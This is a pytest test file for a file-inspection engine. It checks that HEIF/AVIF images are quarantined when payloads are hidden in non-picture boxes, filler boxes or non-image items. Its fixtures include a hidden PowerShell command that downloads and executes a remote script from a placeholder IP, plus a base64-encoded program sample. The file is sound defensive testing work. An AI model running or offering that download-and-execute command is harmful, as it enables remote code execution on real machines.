"""Top-level boxes of a HEIF/AVIF picture that are not part of it are judged
(agent/inspect/isobmff.py).

ISO/IEC 23008-12: a HEIF picture is `ftyp`, `meta` (which locates the items) and the
`mdat`/`idat` data they point to. Movie, streaming and vendor boxes at the top level (udta,
Xtra, moov, pdin, sidx, jumb, sefd...) are read by no picture decoder: opaque values; `junk`
is filler and `wide` a placeholder with no content. Likewise the data of an item whose type
is no image (§9.2: other MIME content, URIs, unknown types) is read by no decoder. A raw
program is found anywhere by the whole-file search for program headers; an encoded program
or a script line only in a region a judge is given.
"""

from __future__ import annotations

import base64
import struct

import pytest

from agent.inspect.engine import inspect_bytes
from tests import classify_samples as cs
from tests.format_samples import box

SCRIPT = b"powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a.ps1)"
PAYLOADS = {"base64 program": base64.b64encode(cs.real_pe()), "script": SCRIPT}
OTHER_BOXES = (b"udta", b"Xtra", b"moov", b"pdin", b"sidx", b"jumb", b"meco", b"PICT", b"idat")
CODED = bytes(range(256)) * 16  # the one item's coded bytes


def _heif(extra: bytes = b"") -> bytes:
    """ftyp, meta (hdlr, ispe, iloc of one item), then `extra`, then the item's mdat."""
    ftyp = box(b"ftyp", b"heic" + bytes(4) + b"mif1heic")
    hdlr = box(b"hdlr", bytes(8) + b"pict" + bytes(13))
    iprp = box(b"iprp", box(b"ipco", box(b"ispe", bytes(4) + struct.pack(">II", 64, 64))))

    def meta(item_offset: int) -> bytes:
        # iloc version 0: offset_size 4, length_size 4, base_offset_size 0; item 1, 1 extent
        extent = struct.pack(">HHHII", 1, 0, 1, item_offset, len(CODED))
        iloc = box(b"iloc", bytes(4) + b"\x44\x00" + struct.pack(">H", 1) + extent)
        return box(b"meta", bytes(4) + hdlr + iprp + iloc)

    head_length = len(ftyp) + len(meta(0)) + len(extra)
    return ftyp + meta(head_length + 8) + extra + box(b"mdat", CODED)


def _codes(data: bytes) -> tuple[str, set[str]]:
    report = inspect_bytes("IMG_0001.heic", data)
    return report.verdict.value, {f.code for f in report.findings}


def test_the_sample_picture_is_clean() -> None:
    assert _codes(_heif()) == ("clean", set())


@pytest.mark.parametrize("kind", PAYLOADS)
@pytest.mark.parametrize("box_type", OTHER_BOXES, ids=bytes.decode)
def test_a_payload_in_a_box_not_part_of_the_picture_is_quarantined(
    box_type: bytes, kind: str
) -> None:
    verdict, codes = _codes(_heif(box(box_type, PAYLOADS[kind])))
    assert verdict == "quarantine"
    assert "heif.payload_in_metadata" in codes


@pytest.mark.parametrize("kind", PAYLOADS)
@pytest.mark.parametrize("box_type", [b"junk", b"wide"], ids=bytes.decode)
def test_a_payload_in_filler_is_quarantined(box_type: bytes, kind: str) -> None:
    verdict, codes = _codes(_heif(box(box_type, PAYLOADS[kind])))
    assert verdict == "quarantine"
    assert "heif.unexplained_data" in codes


@pytest.mark.parametrize("box_type", OTHER_BOXES, ids=bytes.decode)
def test_harmless_boxes_not_part_of_the_picture_stay_clean(box_type: bytes) -> None:
    assert _codes(_heif(box(box_type, bytes(range(256)))))[0] == "clean"


def test_empty_wide_and_zero_junk_stay_clean() -> None:
    assert _codes(_heif(box(b"wide", b"") + box(b"junk", bytes(32))))[0] == "clean"


# --- items that are no image -----------------------------------------------------------------


def _infe(item_id: int, item_type: bytes, extra: bytes = b"") -> bytes:
    """An ItemInfoEntry version 2 (23008-12 §9.2 / 14496-12 §8.11.6): id, protection 0, type."""
    return box(
        b"infe", b"\x02" + bytes(3) + struct.pack(">HH", item_id, 0) + item_type + b"\x00" + extra
    )


def _heif_with_item(item_type: bytes, data: bytes, extra: bytes = b"") -> bytes:
    """Item 1 (hvc1, the picture) and item 2 of `item_type` holding `data`, both in mdat."""
    ftyp = box(b"ftyp", b"heic" + bytes(4) + b"mif1heic")
    hdlr = box(b"hdlr", bytes(8) + b"pict" + bytes(13))
    iprp = box(b"iprp", box(b"ipco", box(b"ispe", bytes(4) + struct.pack(">II", 64, 64))))
    iinf = box(
        b"iinf", bytes(4) + struct.pack(">H", 2) + _infe(1, b"hvc1") + _infe(2, item_type, extra)
    )

    def meta(base: int) -> bytes:
        extents = struct.pack(">HHHII", 1, 0, 1, base, len(CODED))
        extents += struct.pack(">HHHII", 2, 0, 1, base + len(CODED), len(data))
        iloc = box(b"iloc", bytes(4) + b"\x44\x00" + struct.pack(">H", 2) + extents)
        return box(b"meta", bytes(4) + hdlr + iinf + iprp + iloc)

    base = len(ftyp) + len(meta(0)) + 8
    return ftyp + meta(base) + box(b"mdat", CODED + data)


NON_IMAGE_ITEMS = {
    "unknown type": (b"zzzz", b""),
    "text MIME content": (b"mime", b"text/plain\x00"),
    "URI item": (b"uri ", b"urn:example:data\x00"),
}


@pytest.mark.parametrize("kind", PAYLOADS)
@pytest.mark.parametrize("item", NON_IMAGE_ITEMS)
def test_a_payload_as_an_item_that_is_no_image_is_quarantined(item: str, kind: str) -> None:
    item_type, extra = NON_IMAGE_ITEMS[item]
    verdict, codes = _codes(_heif_with_item(item_type, PAYLOADS[kind], extra))
    assert verdict == "quarantine"
    assert "heif.payload_in_metadata" in codes


@pytest.mark.parametrize("item", NON_IMAGE_ITEMS)
def test_harmless_items_that_are_no_image_stay_clean(item: str) -> None:
    item_type, extra = NON_IMAGE_ITEMS[item]
    assert _codes(_heif_with_item(item_type, bytes(range(256)), extra))[0] == "clean"


def test_a_second_coded_image_item_is_not_metadata() -> None:
    assert _codes(_heif_with_item(b"hvc1", bytes(range(256)) * 4)) == ("clean", set())


@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_payload_in_an_item_extent_of_length_zero_is_quarantined(kind: str) -> None:
    """An extent_length of 0 means "to the end of the file" (ISO/IEC 14496-12 §8.11.3.3)."""
    heif = _heif_with_item(b"zzzz", PAYLOADS[kind])
    last_extent = heif.index(struct.pack(">I", len(PAYLOADS[kind])), heif.index(b"iloc"))
    heif = heif[:last_extent] + bytes(4) + heif[last_extent + 4 :]
    assert _codes(heif)[0] == "quarantine"
